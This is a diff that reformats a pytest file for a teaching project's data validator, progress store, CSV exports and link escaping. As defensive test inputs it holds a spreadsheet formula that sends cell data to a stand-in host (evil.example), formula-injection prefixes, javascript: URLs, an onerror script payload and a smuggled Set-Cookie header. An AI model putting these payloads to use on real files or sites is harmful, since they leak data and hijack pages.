@@ -8,6 +8,7 @@
 - classroom cases check the teacher's CSV files against spreadsheet formulas and odd folders;
 - link cases check the hub links a teacher generates.
 """
+
 from __future__ import annotations
 
 import csv
@@ -29,6 +30,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 # --------------------------------------------------------------------------- data and quiz copies
 
+
 def _table(folder: Path, name: str) -> list[list[str]]:
     with open(folder / f"{name}.csv", newline="", encoding="utf-8") as source:
         return list(csv.reader(source))
@@ -41,11 +43,13 @@ def _write_table(folder: Path, name: str, table: list[list[str]]) -> None:
 
 def cell(name: str, column: str, value: str, row: int = 0, **others):
     """Set one cell (and optionally other cells of the same row) of a data file."""
+
     def change(folder: Path) -> None:
         table = _table(folder, name)
         for col, val in {column: value, **others}.items():
             table[row + 1][table[0].index(col)] = val
         _write_table(folder, name, table)
+
     return change
 
 
@@ -58,12 +62,14 @@ def raw(name: str, text: str | bytes):
     def change(folder: Path) -> None:
         path = folder / name
         path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
+
     return change
 
 
 def header_only(name: str):
     def change(folder: Path) -> None:
         _write_table(folder, name, _table(folder, name)[:1])
+
     return change
 
 
@@ -71,6 +77,7 @@ def with_bom(name: str):
     def change(folder: Path) -> None:
         path = folder / name
         path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
+
     return change
 
 
@@ -80,6 +87,7 @@ def geo(name: str, mutate):
         collection = json.loads(path.read_text(encoding="utf-8"))
         mutate(collection)
         path.write_text(json.dumps(collection), encoding="utf-8")
+
     return change
 
 
@@ -89,21 +97,30 @@ def _set(path: list, value):
         for key in path[:-1]:
             target = target[key]
         target[path[-1]] = value
+
     return mutate
 
 
-BASE_QUESTION = {"id": "what-is-it-1", "type": "single", "prompt": "Which?", "explanation": "Because.",
-                 "source": "https://example.org/", "objective": "Explain.", "level": "remember",
-                 "options": [{"text": "A", "correct": True, "feedback": "Yes."},
-                             {"text": "B", "correct": False, "feedback": "No."}]}
+BASE_QUESTION = {
+    "id": "what-is-it-1",
+    "type": "single",
+    "prompt": "Which?",
+    "explanation": "Because.",
+    "source": "https://example.org/",
+    "objective": "Explain.",
+    "level": "remember",
+    "options": [{"text": "A", "correct": True, "feedback": "Yes."}, {"text": "B", "correct": False, "feedback": "No."}],
+}
 
 
 def quiz(**changes):
     """The what_is_it quiz file replaced by one question with `changes` (None removes a field)."""
     question = {**BASE_QUESTION, **changes}
     question = {k: v for k, v in question.items() if v is not None}
-    return raw("quizzes/what_is_it.yaml",
-               yaml.safe_dump({"chapter": "what_is_it", "title": "T", "questions": [question]}, sort_keys=False))
+    return raw(
+        "quizzes/what_is_it.yaml",
+        yaml.safe_dump({"chapter": "what_is_it", "title": "T", "questions": [question]}, sort_keys=False),
+    )
 
 
 def quiz_text(text: str | bytes):
@@ -112,10 +129,10 @@ def quiz_text(text: str | bytes):
 
 DEEP_YAML = "chapter: what_is_it\ntitle: T\nquestions: " + "[" * 10_000 + "]" * 10_000 + "\n"
 DEEP_JSON = '{"type": "FeatureCollection", "features": ' + "[" * 10_000 + "]" * 10_000 + "}"
-DUPLICATE_QUESTIONS = ("chapter: what_is_it\ntitle: T\nquestions: []\n"
-                       "questions:\n  - {id: x, type: single}\n")
-DUPLICATE_CORRECT = yaml.safe_dump({"chapter": "what_is_it", "title": "T", "questions": [BASE_QUESTION]},
-                                   sort_keys=False).replace("correct: true", "correct: true\n    correct: false", 1)
+DUPLICATE_QUESTIONS = "chapter: what_is_it\ntitle: T\nquestions: []\nquestions:\n  - {id: x, type: single}\n"
+DUPLICATE_CORRECT = yaml.safe_dump(
+    {"chapter": "what_is_it", "title": "T", "questions": [BASE_QUESTION]}, sort_keys=False
+).replace("correct: true", "correct: true\n    correct: false", 1)
 TWO_GOOD_ROWS = "term,chinese,pinyin,definition,source_url\n"
 GLOSSARY = "data/glossary.csv:2:definition:"
 SOON = (date.today() + timedelta(days=40)).isoformat()  # in the future, within the schema's years
@@ -123,104 +140,262 @@ ITALY = find_row("bri_countries", "iso3", "ITA")
 
 VALIDATOR_CASES = [
     # one-line, bounded, clean fields
-    ("field of 1 MB", cell("glossary", "definition", "x" * 1_000_000), "data/glossary.csv:2: not valid CSV: field larger"),
+    (
+        "field of 1 MB",
+        cell("glossary", "definition", "x" * 1_000_000),
+        "data/glossary.csv:2: not valid CSV: field larger",
+    ),
     ("field of 6,000 characters", cell("glossary", "definition", "x" * 6000), f"{GLOSSARY} is 6000 characters long"),
-    ("line break and a code fence", cell("glossary", "definition", "ok\n```\n<script>x()</script>"),
-     f"{GLOSSARY} contains a line break"),
-    ("carriage return in a quoted field", raw("glossary.csv", TWO_GOOD_ROWS + '"a\rb",x,y,z,https://a.org/\n'),
-     "data/glossary.csv:2:term: contains a line break"),
+    (
+        "line break and a code fence",
+        cell("glossary", "definition", "ok\n```\n<script>x()</script>"),
+        f"{GLOSSARY} contains a line break",
+    ),
+    (
+        "carriage return in a quoted field",
+        raw("glossary.csv", TWO_GOOD_ROWS + '"a\rb",x,y,z,https://a.org/\n'),
+        "data/glossary.csv:2:term: contains a line break",
+    ),
     ("NUL byte", cell("glossary", "definition", "a\x00b"), "data/glossary.csv:2: contains a NUL byte"),
     ("trailing space in a code", cell("bri_countries", "iso3", "KEN "), "data/bri_countries.csv:2:iso3: has spaces"),
     ("leading space in a title", cell("timeline", "title", " Speech"), "data/timeline.csv:2:title: has spaces"),
-    ("codes with a space after ';'", cell("projects", "iso3", "LAO; CHN"),
-     "data/projects.csv:2:iso3: must be ISO 3166-1 alpha-3 codes separated by ';' (no spaces)"),
+    (
+        "codes with a space after ';'",
+        cell("projects", "iso3", "LAO; CHN"),
+        "data/projects.csv:2:iso3: must be ISO 3166-1 alpha-3 codes separated by ';' (no spaces)",
+    ),
     ("lower-case code", cell("aiib_members", "iso3", "chn"), "data/aiib_members.csv:2:iso3: must be an ISO 3166-1"),
     ("empty code in a list", cell("projects", "iso3", "LAO;;CHN"), "data/projects.csv:2:iso3: must be ISO 3166-1"),
-    ("code of a real country not in the course list", cell("bri_countries", "iso3", "ABW"),
-     "data/bri_countries.csv:2:iso3: ABW is in neither countries.geojson nor small_states.csv"),
-    ("code of a real country not in the course list, in a list", cell("projects", "iso3", "LAO;ABW"),
-     "data/projects.csv:2:iso3: ABW is in neither"),
-    ("small state that the outlines draw", cell("small_states", "iso3", "CHN"),
-     "data/small_states.csv:2:iso3: is drawn in countries.geojson"),
+    (
+        "code of a real country not in the course list",
+        cell("bri_countries", "iso3", "ABW"),
+        "data/bri_countries.csv:2:iso3: ABW is in neither countries.geojson nor small_states.csv",
+    ),
+    (
+        "code of a real country not in the course list, in a list",
+        cell("projects", "iso3", "LAO;ABW"),
+        "data/projects.csv:2:iso3: ABW is in neither",
+    ),
+    (
+        "small state that the outlines draw",
+        cell("small_states", "iso3", "CHN"),
+        "data/small_states.csv:2:iso3: is drawn in countries.geojson",
+    ),
     # numbers: plain ASCII decimals, finite
-    ("Arabic-Indic digits", cell("timeline", "lat", "٣٩.٩"), "data/timeline.csv:2:lat: must be a number from -90 to 90"),
+    (
+        "Arabic-Indic digits",
+        cell("timeline", "lat", "٣٩.٩"),
+        "data/timeline.csv:2:lat: must be a number from -90 to 90",
+    ),
     ("digit separator", cell("timeline", "lat", "3_9.9"), "data/timeline.csv:2:lat: must be a number"),
     ("exponent", cell("timeline", "lon", "1e1"), "data/timeline.csv:2:lon: must be a number"),
     ("NaN", cell("timeline", "lat", "nan"), "data/timeline.csv:2:lat: must be a number"),
     ("infinity", cell("projects", "cost_usd_bn", "inf"), "data/projects.csv:2:cost_usd_bn: must be a number"),
-    ("huge number", cell("projects", "cost_usd_bn", "1" + "0" * 400), "data/projects.csv:2:cost_usd_bn: must be a number"),
+    (
+        "huge number",
+        cell("projects", "cost_usd_bn", "1" + "0" * 400),
+        "data/projects.csv:2:cost_usd_bn: must be a number",
+    ),
     ("full-width digits", cell("bri_counts", "count", "１５０"), "data/bri_counts.csv:2:count: must be a number"),
     # URLs
-    ("URL with no host", cell("timeline", "source_url", "http://"), "data/timeline.csv:2:source_url: must be an http(s) URL"),
-    ("URL with credentials", cell("timeline", "source_url", "https://user:password@example.org/"),
-     "data/timeline.csv:2:source_url: must be an http(s) URL"),
-    ("javascript: URL", cell("glossary", "source_url", "javascript:alert(1)"), "data/glossary.csv:2:source_url: must be"),
-    ("URL with a space", cell("glossary", "source_url", "https://example.org/a b"), "data/glossary.csv:2:source_url: must be"),
-    ("URL with a quote", cell("glossary", "source_url", 'https://example.org/"onmouseover="x()'),
-     "data/glossary.csv:2:source_url: must be"),
+    (
+        "URL with no host",
+        cell("timeline", "source_url", "http://"),
+        "data/timeline.csv:2:source_url: must be an http(s) URL",
+    ),
+    (
+        "URL with credentials",
+        cell("timeline", "source_url", "https://user:password@example.org/"),
+        "data/timeline.csv:2:source_url: must be an http(s) URL",
+    ),
+    (
+        "javascript: URL",
+        cell("glossary", "source_url", "javascript:alert(1)"),
+        "data/glossary.csv:2:source_url: must be",
+    ),
+    (
+        "URL with a space",
+        cell("glossary", "source_url", "https://example.org/a b"),
+        "data/glossary.csv:2:source_url: must be",
+    ),
+    (
+        "URL with a quote",
+        cell("glossary", "source_url", 'https://example.org/"onmouseover="x()'),
+        "data/glossary.csv:2:source_url: must be",
+    ),
     # dates
-    ("completed project in the future", cell("projects", "completed", SOON, status="operational"),
-     "data/projects.csv:2:completed: is in the future"),
+    (
+        "completed project in the future",
+        cell("projects", "completed", SOON, status="operational"),
+        "data/projects.csv:2:completed: is in the future",
+    ),
     ("event in the future", cell("timeline", "date", SOON), "data/timeline.csv:2:date: is in the future"),
-    ("signature in the future", cell("bri_countries", "first_signed", SOON), "data/bri_countries.csv:2:first_signed: is in the future"),
-    ("withdrawal before the first signature", cell("bri_countries", "withdrawn", "2018-01-01", row=ITALY),
-     f"data/bri_countries.csv:{ITALY + 2}:withdrawn: is before 'first_signed'"),
+    (
+        "signature in the future",
+        cell("bri_countries", "first_signed", SOON),
+        "data/bri_countries.csv:2:first_signed: is in the future",
+    ),
+    (
+        "withdrawal before the first signature",
+        cell("bri_countries", "withdrawn", "2018-01-01", row=ITALY),
+        f"data/bri_countries.csv:{ITALY + 2}:withdrawn: is before 'first_signed'",
+    ),
     ("impossible date", cell("communities", "date", "2019-02-30"), "data/communities.csv:2:date: must be a date"),
     # whole files
     ("header only", header_only("glossary"), "data/glossary.csv: has a header but no data rows"),
     ("empty file", raw("glossary.csv", ""), "data/glossary.csv: file is empty"),
-    ("not UTF-8", raw("glossary.csv", TWO_GOOD_ROWS.encode() + "Pékin,x,y,z,https://a.org/\n".encode("latin-1")),
-     "data/glossary.csv:2: not valid UTF-8"),
-    ("unclosed quote", raw("glossary.csv", TWO_GOOD_ROWS + 'a,b,c,"d,https://a.org/\n'), "data/glossary.csv:2: not valid CSV"),
+    (
+        "not UTF-8",
+        raw("glossary.csv", TWO_GOOD_ROWS.encode() + "Pékin,x,y,z,https://a.org/\n".encode("latin-1")),
+        "data/glossary.csv:2: not valid UTF-8",
+    ),
+    (
+        "unclosed quote",
+        raw("glossary.csv", TWO_GOOD_ROWS + 'a,b,c,"d,https://a.org/\n'),
+        "data/glossary.csv:2: not valid CSV",
+    ),
     ("ragged row", raw("glossary.csv", TWO_GOOD_ROWS + "a,b\n"), "data/glossary.csv:2: ragged row"),
     ("file missing", lambda folder: (folder / "funds.csv").unlink(), "data/funds.csv: file is missing"),
     ("byte-order mark is accepted", with_bom("glossary.csv"), None),
     # GeoJSON
-    ("null feature", geo("countries", _set(["features", 0], None)),
-     "data/countries.geojson:feature 1: must be a GeoJSON Feature object"),
-    ("list-valued property", geo("countries", _set(["features", 0, "properties", "name"], ["a", "b"])),
-     "data/countries.geojson:feature 1:name: required property is missing, empty or not text"),
-    ("null properties", geo("corridors", _set(["features", 0, "properties"], None)),
-     "data/corridors.geojson:feature 1:properties: must be an object"),
-    ("coordinates out of range", geo("corridors", _set(["features", 0, "geometry", "coordinates", 0], [500, 95])),
-     "data/corridors.geojson:feature 1:geometry: position [500, 95] is out of range"),
-    ("coordinates that are text", geo("corridors", _set(["features", 0, "geometry", "coordinates", 0], ["1", "2"])),
-     "data/corridors.geojson:feature 1:geometry: position"),
+    (
+        "null feature",
+        geo("countries", _set(["features", 0], None)),
+        "data/countries.geojson:feature 1: must be a GeoJSON Feature object",
+    ),
+    (
+        "list-valued property",
+        geo("countries", _set(["features", 0, "properties", "name"], ["a", "b"])),
+        "data/countries.geojson:feature 1:name: required property is missing, empty or not text",
+    ),
+    (
+        "null properties",
+        geo("corridors", _set(["features", 0, "properties"], None)),
+        "data/corridors.geojson:feature 1:properties: must be an object",
+    ),
+    (
+        "coordinates out of range",
+        geo("corridors", _set(["features", 0, "geometry", "coordinates", 0], [500, 95])),
+        "data/corridors.geojson:feature 1:geometry: position [500, 95] is out of range",
+    ),
+    (
+        "coordinates that are text",
+        geo("corridors", _set(["features", 0, "geometry", "coordinates", 0], ["1", "2"])),
+        "data/corridors.geojson:feature 1:geometry: position",
+    ),
     ("JSON nested 10,000 deep", raw("countries.geojson", DEEP_JSON), "data/countries.geojson: JSON nested too deeply"),
-    ("malformed JSON", raw("corridors.geojson", '{"type": "FeatureCollection", '), "data/corridors.geojson:1: malformed JSON"),
-    ("corridor source not http", geo("corridors", _set(["features", 0, "properties", "source_url"], "ftp://x.org/")),
-     "data/corridors.geojson:feature 1:source_url: must be an http(s) URL"),
+    (
+        "malformed JSON",
+        raw("corridors.geojson", '{"type": "FeatureCollection", '),
+        "data/corridors.geojson:1: malformed JSON",
+    ),
+    (
+        "corridor source not http",
+        geo("corridors", _set(["features", 0, "properties", "source_url"], "ftp://x.org/")),
+        "data/corridors.geojson:feature 1:source_url: must be an http(s) URL",
+    ),
     ("no features", geo("corridors", _set(["features"], [])), "data/corridors.geojson: has no features"),
     # quiz files
-    ("quiz not UTF-8", quiz_text(b"chapter: what_is_it\ntitle: \xff\xfe\n"), "data/quizzes/what_is_it.yaml:2: not valid UTF-8"),
+    (
+        "quiz not UTF-8",
+        quiz_text(b"chapter: what_is_it\ntitle: \xff\xfe\n"),
+        "data/quizzes/what_is_it.yaml:2: not valid UTF-8",
+    ),
     ("quiz nested 10,000 deep", quiz_text(DEEP_YAML), "data/quizzes/what_is_it.yaml: invalid YAML: nested too deeply"),
-    ("quiz key given twice", quiz_text(DUPLICATE_QUESTIONS),
-     "data/quizzes/what_is_it.yaml: line 4: invalid YAML: key 'questions' appears twice"),
-    ("option key given twice", quiz_text(DUPLICATE_CORRECT), "data/quizzes/what_is_it.yaml: line 14: invalid YAML: key 'correct' appears twice"),
-    ("numeric answer NaN", quiz(type="numeric", options=None, answer=float("nan"), tolerance=0, unit=""),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field answer: Input should be a finite number"),
-    ("numeric answer 1e400", quiz(type="numeric", options=None, answer="1e400", tolerance=0, unit=""),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field answer: Input should be a finite number"),
-    ("tolerance infinite", quiz(type="numeric", options=None, answer=3, tolerance=float("inf"), unit=""),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field tolerance: Input should be a finite number"),
-    ("blank option", quiz(options=[{"text": "  ", "correct": True, "feedback": "Y"}, {"text": "B", "correct": False, "feedback": "N"}]),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field options[0].text: must not be blank"),
-    ("repeated option", quiz(options=[{"text": "Laos", "correct": True, "feedback": "Y"}, {"text": " laos", "correct": False, "feedback": "N"}]),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field options: option 2 repeats option 1"),
-    ("repeated ordering item", quiz(type="ordering", options=None, items=["2013", "2015", "2013"], feedback="F"),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field items: item 3 repeats item 1"),
-    ("blank explanation", quiz(explanation=" \n "), "data/quizzes/what_is_it.yaml: question what-is-it-1: field explanation: must not be blank"),
-    ("title on two lines", raw("quizzes/what_is_it.yaml", "chapter: what_is_it\ntitle: \"a\\nb\"\nquestions: []\n"),
-     "data/quizzes/what_is_it.yaml: field title: must be one line"),
-    ("option text on two lines", quiz(options=[{"text": "A\n```", "correct": True, "feedback": "Y"}, {"text": "B", "correct": False, "feedback": "N"}]),
-     "data/quizzes/what_is_it.yaml: question what-is-it-1: field options[0].text: must be one line"),
-    ("source with no host", quiz(source="http://"), "data/quizzes/what_is_it.yaml: question what-is-it-1: field source: 'http://' is neither"),
-    ("javascript: source", quiz(source="javascript:alert(1)"), "data/quizzes/what_is_it.yaml: question what-is-it-1: field source:"),
-    ("unknown question type", quiz(type="essay"), "data/quizzes/what_is_it.yaml: question what-is-it-1: field type: unknown type 'essay'"),
+    (
+        "quiz key given twice",
+        quiz_text(DUPLICATE_QUESTIONS),
+        "data/quizzes/what_is_it.yaml: line 4: invalid YAML: key 'questions' appears twice",
+    ),
+    (
+        "option key given twice",
+        quiz_text(DUPLICATE_CORRECT),
+        "data/quizzes/what_is_it.yaml: line 14: invalid YAML: key 'correct' appears twice",
+    ),
+    (
+        "numeric answer NaN",
+        quiz(type="numeric", options=None, answer=float("nan"), tolerance=0, unit=""),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field answer: Input should be a finite number",
+    ),
+    (
+        "numeric answer 1e400",
+        quiz(type="numeric", options=None, answer="1e400", tolerance=0, unit=""),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field answer: Input should be a finite number",
+    ),
+    (
+        "tolerance infinite",
+        quiz(type="numeric", options=None, answer=3, tolerance=float("inf"), unit=""),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field tolerance: Input should be a finite number",
+    ),
+    (
+        "blank option",
+        quiz(
+            options=[{"text": "  ", "correct": True, "feedback": "Y"}, {"text": "B", "correct": False, "feedback": "N"}]
+        ),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field options[0].text: must not be blank",
+    ),
+    (
+        "repeated option",
+        quiz(
+            options=[
+                {"text": "Laos", "correct": True, "feedback": "Y"},
+                {"text": " laos", "correct": False, "feedback": "N"},
+            ]
+        ),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field options: option 2 repeats option 1",
+    ),
+    (
+        "repeated ordering item",
+        quiz(type="ordering", options=None, items=["2013", "2015", "2013"], feedback="F"),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field items: item 3 repeats item 1",
+    ),
+    (
+        "blank explanation",
+        quiz(explanation=" \n "),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field explanation: must not be blank",
+    ),
+    (
+        "title on two lines",
+        raw("quizzes/what_is_it.yaml", 'chapter: what_is_it\ntitle: "a\\nb"\nquestions: []\n'),
+        "data/quizzes/what_is_it.yaml: field title: must be one line",
+    ),
+    (
+        "option text on two lines",
+        quiz(
+            options=[
+                {"text": "A\n```", "correct": True, "feedback": "Y"},
+                {"text": "B", "correct": False, "feedback": "N"},
+            ]
+        ),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field options[0].text: must be one line",
+    ),
+    (
+        "source with no host",
+        quiz(source="http://"),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field source: 'http://' is neither",
+    ),
+    (
+        "javascript: source",
+        quiz(source="javascript:alert(1)"),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field source:",
+    ),
+    (
+        "unknown question type",
+        quiz(type="essay"),
+        "data/quizzes/what_is_it.yaml: question what-is-it-1: field type: unknown type 'essay'",
+    ),
     ("missing prompt", quiz(prompt=None), "data/quizzes/what_is_it.yaml: question what-is-it-1: field prompt: missing"),
     ("quiz is a list", quiz_text("- a\n- b\n"), "data/quizzes/what_is_it.yaml: must be a mapping"),
-    ("invalid YAML", quiz_text("chapter: [unclosed\n"), "data/quizzes/what_is_it.yaml: line 1: invalid YAML: while parsing a flow sequence"),
-    ("question id used in another chapter", quiz(id="origins-1"), "data/quizzes/what_is_it.yaml: question origins-1: field id: duplicate"),
+    (
+        "invalid YAML",
+        quiz_text("chapter: [unclosed\n"),
+        "data/quizzes/what_is_it.yaml: line 1: invalid YAML: while parsing a flow sequence",
+    ),
+    (
+        "question id used in another chapter",
+        quiz(id="origins-1"),
+        "data/quizzes/what_is_it.yaml: question origins-1: field id: duplicate",
+    ),
 ]
 
 
@@ -256,6 +431,7 @@ def test_validator_reports_every_problem_in_one_run(data_copy, capsys):
 
 # --------------------------------------------------------------------------- progress
 
+
 @pytest.fixture
 def progress_at(tmp_path, monkeypatch):
     monkeypatch.setenv("SHARED_FUTURE_STUDENT", "ana")
@@ -263,6 +439,7 @@ def progress_at(tmp_path, monkeypatch):
     def at(path: Path | str) -> Path:
         monkeypatch.setenv("SHARED_FUTURE_PROGRESS", str(path))
         return Path(path)
+
     return at
 
 
@@ -311,11 +488,14 @@ def test_an_oversized_progress_file_is_set_aside_not_read(progress_at, tmp_path,
     assert len(list(tmp_path.glob("progress.json.corrupt-*"))) == 1
 
 
-@pytest.mark.parametrize("content, warning", [
-    (b'{"students": 5}', "not a progress file"),
-    (b'{"students": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
-    (b"\xff\xfe not utf-8", "unreadable"),
-])
+@pytest.mark.parametrize(
+    "content, warning",
+    [
+        (b'{"students": 5}', "not a progress file"),
+        (b'{"students": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested too deeply"),
+        (b"\xff\xfe not utf-8", "unreadable"),
+    ],
+)
 def test_unreadable_progress_files_are_set_aside(progress_at, tmp_path, content, warning):
     path = progress_at(tmp_path / "progress.json")
     path.write_bytes(content)
@@ -324,12 +504,15 @@ def test_unreadable_progress_files_are_set_aside(progress_at, tmp_path, content,
     assert aside.read_bytes() == content
 
 
-@pytest.mark.parametrize("students", [
-    {"alice": []},
-    {"alice": {"origins": "done"}},
-    {"alice": {"origins": {"o1": {"answer": "A", "correct": "yes", "answered_at": "x"}}}},
-    {"alice": {"origins": {"o1": None}}},
-])
+@pytest.mark.parametrize(
+    "students",
+    [
+        {"alice": []},
+        {"alice": {"origins": "done"}},
+        {"alice": {"origins": {"o1": {"answer": "A", "correct": "yes", "answered_at": "x"}}}},
+        {"alice": {"origins": {"o1": None}}},
+    ],
+)
 def test_a_wrong_shaped_entry_is_set_aside_and_others_kept(progress_at, tmp_path, students):
     path = progress_at(tmp_path / "progress.json")
     good = {"answer": "B", "correct": False, "answered_at": "2026-01-01T00:00:00+00:00"}
@@ -343,14 +526,25 @@ def test_a_wrong_shaped_entry_is_set_aside_and_others_kept(progress_at, tmp_path
 
 def test_another_students_bad_entry_does_not_break_show_progress(progress_at, tmp_path, monkeypatch):
     path = progress_at(tmp_path / "progress.json")
-    path.write_text(json.dumps({"students": {"alice": [], "ana": {"origins": {"o1": {
-        "answer": "A", "correct": True, "answered_at": "2026-01-01T00:00:00+00:00"}}}}}))
+    path.write_text(
+        json.dumps(
+            {
+                "students": {
+                    "alice": [],
+                    "ana": {
+                        "origins": {"o1": {"answer": "A", "correct": True, "answered_at": "2026-01-01T00:00:00+00:00"}}
+                    },
+                }
+            }
+        )
+    )
     with pytest.warns(UserWarning, match="set aside"):
         table = progress.show_progress()
     assert table.to_dict("index") == {"origins": {"answered": 1, "correct": 1}}
 
 
 # --------------------------------------------------------------------------- teacher's CSV files
+
 
 @pytest.mark.parametrize("value", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'quoted"])
 def test_spreadsheet_cells_are_neutralised_and_read_back(value):
@@ -413,17 +607,36 @@ def test_huge_field_in_an_export_is_a_message(tmp_path):
 
 # --------------------------------------------------------------------------- links
 
-@pytest.mark.parametrize("hub", [
-    "https://hub.school.example/ x", "https://hub.school.example/\nSet-Cookie: a=b", "https://user:pw@hub.school.example",
-    "https://:pw@hub.school.example", "javascript:alert(1)", "https://", "hub.school.example", " https://hub.school.example",
-])
+
+@pytest.mark.parametrize(
+    "hub",
+    [
+        "https://hub.school.example/ x",
+        "https://hub.school.example/\nSet-Cookie: a=b",
+        "https://user:pw@hub.school.example",
+        "https://:pw@hub.school.example",
+        "javascript:alert(1)",
+        "https://",
+        "hub.school.example",
+        " https://hub.school.example",
+    ],
+)
 def test_hub_links_reject_spaces_line_breaks_and_credentials(hub):
     with pytest.raises(ValueError, match="hub_url"):
         hub_links.nbgitpuller_link(hub, "https://github.com/a/b")
 
 
-@pytest.mark.parametrize("url", ["http://", "https://user:pw@example.org/", "javascript:alert(1)",
-                                 "https://example.org/a b", "data:text/html,<script>", "//example.org/"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://",
+        "https://user:pw@example.org/",
+        "javascript:alert(1)",
+        "https://example.org/a b",
+        "data:text/html,<script>",
+        "//example.org/",
+    ],
+)
 def test_unsafe_urls_are_never_links(url):
     assert escaping.safe_url(url) is None and escaping.html_link(url) == ""
     assert "href" not in escaping.myst_link(url, "label")
@@ -431,7 +644,7 @@ def test_unsafe_urls_are_never_links(url):
 
 # --------------------------------------------------------------------------- folium text and map tables
 
-FOLIUM_PAYLOAD = '<img src=x onerror=alert(1)> ${alert(2)} `+alert(3)+` \\u0041 </script>'
+FOLIUM_PAYLOAD = "<img src=x onerror=alert(1)> ${alert(2)} `+alert(3)+` \\u0041 </script>"
 
 
 def test_folium_text_cannot_leave_folium_popups_and_tooltips():
@@ -439,9 +652,11 @@ def test_folium_text_cannot_leave_folium_popups_and_tooltips():
     import folium
 
     from shared_future import map_display
+
     m = folium.Map(tiles=None)
-    folium.CircleMarker([0, 0], tooltip=escaping.folium_text(FOLIUM_PAYLOAD),
-                        popup=folium.Popup(escaping.folium_text(FOLIUM_PAYLOAD))).add_to(m)
+    folium.CircleMarker(
+        [0, 0], tooltip=escaping.folium_text(FOLIUM_PAYLOAD), popup=folium.Popup(escaping.folium_text(FOLIUM_PAYLOAD))
+    ).add_to(m)
     document = map_display.document(m) or m.get_root().render()
     for live in ("<img", "${", "`+alert", "\\u0041", "alert(1)></script>"):
         assert live not in document, live
@@ -450,8 +665,8 @@ def test_folium_text_cannot_leave_folium_popups_and_tooltips():
 
 def test_map_tables_show_hostile_text_as_text():
     from bs4 import BeautifulSoup
-
     from test_maps import HOSTILE, hostile_frames
+
     for m in hostile_frames():
         text = m.table.html()
         soup = BeautifulSoup(text, "html.parser")
